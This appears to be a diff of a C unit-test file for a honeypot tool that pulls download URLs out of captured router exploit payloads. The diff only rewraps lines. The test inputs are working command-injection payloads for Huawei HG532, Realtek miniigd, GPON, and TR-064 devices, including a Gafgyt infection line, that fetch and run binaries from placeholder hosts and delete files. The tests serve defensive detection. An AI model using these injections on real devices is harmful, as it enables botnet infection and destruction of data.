@@ -34,12 +34,16 @@ static struct got run(const char *payload)
 
 static void test_huawei_hg532_soap(void **state)
 {
-	struct got g = run("<?xml version=\"1.0\" ?><s:Envelope><s:Body><u:Upgrade xmlns:u=\"urn:schemas-upnp-org:service:WANPPPConnection:1\">"
-			   "<NewStatusURL>$(/bin/busybox wget -g 192.0.2.5 -l /tmp/.f -r /mips; /tmp/.f huawei)</NewStatusURL>"
-			   "<NewDownloadURL>$(echo HUAWEIUPNP)</NewDownloadURL></u:Upgrade></s:Body></s:Envelope>");
+	struct got g = run("<?xml version=\"1.0\" ?><s:Envelope><s:Body><u:Upgrade "
+			   "xmlns:u=\"urn:schemas-upnp-org:service:WANPPPConnection:1\">"
+			   "<NewStatusURL>$(/bin/busybox wget -g 192.0.2.5 -l /tmp/.f -r /mips; "
+			   "/tmp/.f huawei)</NewStatusURL>"
+			   "<NewDownloadURL>$(echo "
+			   "HUAWEIUPNP)</NewDownloadURL></u:Upgrade></s:Body></s:Envelope>");
 	/* Satori's payload gives wget tftp-style flags and no URL: nothing a device would fetch. */
 	assert_int_equal(g.n, 0);
-	g = run("<NewStatusURL>$(/bin/busybox wget http://192.0.2.5/bins/mips -O /tmp/m; chmod 777 /tmp/m)</NewStatusURL>");
+	g = run("<NewStatusURL>$(/bin/busybox wget http://192.0.2.5/bins/mips -O /tmp/m; chmod 777 "
+		"/tmp/m)</NewStatusURL>");
 	assert_int_equal(g.n, 1);
 	assert_string_equal(g.urls[0], "http://192.0.2.5/bins/mips");
 	assert_string_equal(g.methods[0], "wget");
@@ -47,7 +51,8 @@ static void test_huawei_hg532_soap(void **state)
 
 static void test_realtek_miniigd_backticks(void **state)
 {
-	struct got g = run("<NewInternalClient>`cd /var; tftp -g -r mipsel 192.0.2.6;chmod 777 mipsel;./mipsel`</NewInternalClient>");
+	struct got g = run("<NewInternalClient>`cd /var; tftp -g -r mipsel 192.0.2.6;chmod 777 "
+			   "mipsel;./mipsel`</NewInternalClient>");
 	assert_int_equal(g.n, 1);
 	assert_string_equal(g.urls[0], "tftp://192.0.2.6/mipsel");
 	assert_string_equal(g.methods[0], "tftp");
@@ -55,7 +60,9 @@ static void test_realtek_miniigd_backticks(void **state)
 
 static void test_gpon_form_encoded(void **state)
 {
-	struct got g = run("XWebPageName=diag&diag_action=ping&wan_conlist=0&dest_host=`busybox+wget+http://192.0.2.7/gpon.sh+-O+/tmp/g;sh+/tmp/g`;busybox+wget+http://192.0.2.7/gpon.sh&ipv=0");
+	struct got g = run("XWebPageName=diag&diag_action=ping&wan_conlist=0&dest_host=`busybox+"
+			   "wget+http://192.0.2.7/gpon.sh+-O+/tmp/g;sh+/tmp/g`;busybox+wget+http://"
+			   "192.0.2.7/gpon.sh&ipv=0");
 	assert_int_equal(g.n, 2);
 	assert_string_equal(g.urls[0], "http://192.0.2.7/gpon.sh");
 }
@@ -76,10 +83,14 @@ static void test_jaws_and_netgear_paths(void **state)
 static void test_tr064_gafgyt_line(void **state)
 {
 	/* The Gafgyt infection line inside TR-064's NewNTPServer1 (honeypots.md §4.3). */
-	struct got g = run("<NewNTPServer1>cd /tmp || cd /var/run || cd /mnt || cd /root || cd /; wget http://192.0.2.10/bins.sh; "
-			   "chmod 777 bins.sh; sh bins.sh; tftp 192.0.2.10 -c get tftp1.sh; chmod 777 tftp1.sh; sh tftp1.sh; "
-			   "tftp -r tftp2.sh -g 192.0.2.10; chmod 777 tftp2.sh; sh tftp2.sh; ftpget -v -u anonymous -p anonymous "
-			   "-P 21 192.0.2.10 ftp1.sh ftp1.sh; sh ftp1.sh; rm -rf bins.sh tftp1.sh tftp2.sh ftp1.sh; rm -rf *</NewNTPServer1>");
+	struct got g = run("<NewNTPServer1>cd /tmp || cd /var/run || cd /mnt || cd /root || cd /; "
+			   "wget http://192.0.2.10/bins.sh; "
+			   "chmod 777 bins.sh; sh bins.sh; tftp 192.0.2.10 -c get tftp1.sh; chmod "
+			   "777 tftp1.sh; sh tftp1.sh; "
+			   "tftp -r tftp2.sh -g 192.0.2.10; chmod 777 tftp2.sh; sh tftp2.sh; "
+			   "ftpget -v -u anonymous -p anonymous "
+			   "-P 21 192.0.2.10 ftp1.sh ftp1.sh; sh ftp1.sh; rm -rf bins.sh tftp1.sh "
+			   "tftp2.sh ftp1.sh; rm -rf *</NewNTPServer1>");
 	assert_int_equal(g.n, 4);
 	assert_string_equal(g.urls[0], "http://192.0.2.10/bins.sh");
 	assert_string_equal(g.urls[1], "tftp://192.0.2.10/tftp1.sh");
@@ -90,7 +101,8 @@ static void test_tr064_gafgyt_line(void **state)
 
 static void test_xml_entities_and_quotes(void **state)
 {
-	struct got g = run("remote_host=%3Bcurl%20-s%20&quot;http://192.0.2.11/x&quot;%20-o%20/tmp/x%3B%23&amp;z=1");
+	struct got g = run("remote_host=%3Bcurl%20-s%20&quot;http://192.0.2.11/x&quot;%20-o%20/tmp/"
+			   "x%3B%23&amp;z=1");
 	assert_int_equal(g.n, 1);
 	assert_string_equal(g.urls[0], "http://192.0.2.11/x");
 	assert_string_equal(g.methods[0], "curl");
@@ -120,10 +132,14 @@ static void test_bounded(void **state)
 int main(void)
 {
 	const struct CMUnitTest tests[] = {
-		cmocka_unit_test(test_huawei_hg532_soap), cmocka_unit_test(test_realtek_miniigd_backticks),
-		cmocka_unit_test(test_gpon_form_encoded), cmocka_unit_test(test_jaws_and_netgear_paths),
-		cmocka_unit_test(test_tr064_gafgyt_line), cmocka_unit_test(test_xml_entities_and_quotes),
-		cmocka_unit_test(test_no_command_no_url), cmocka_unit_test(test_bounded),
+		cmocka_unit_test(test_huawei_hg532_soap),
+		cmocka_unit_test(test_realtek_miniigd_backticks),
+		cmocka_unit_test(test_gpon_form_encoded),
+		cmocka_unit_test(test_jaws_and_netgear_paths),
+		cmocka_unit_test(test_tr064_gafgyt_line),
+		cmocka_unit_test(test_xml_entities_and_quotes),
+		cmocka_unit_test(test_no_command_no_url),
+		cmocka_unit_test(test_bounded),
 	};
 	return cmocka_run_group_tests(tests, NULL, NULL);
 }
